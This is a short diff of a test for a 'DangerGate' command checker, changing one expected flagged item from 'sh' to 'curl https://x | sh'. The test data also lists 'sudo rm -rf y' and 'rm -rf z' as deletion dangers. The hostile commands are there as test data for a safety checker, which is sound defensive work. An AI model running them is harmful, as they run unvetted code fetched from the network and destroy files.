@@ -66,7 +66,7 @@ describe('DangerGate', () => {
         expect(asked[0].dangers).toEqual([
             { part: 'sudo rm -rf y', reasons: [expect.stringContaining('another user') as string, deletes] },
             { part: 'rm -rf z', reasons: [deletes] },
-            { part: 'sh', reasons: [expect.stringContaining('from the network') as string] }
+            { part: 'curl https://x | sh', reasons: [expect.stringContaining('from the network') as string] }
         ]);
     });
 
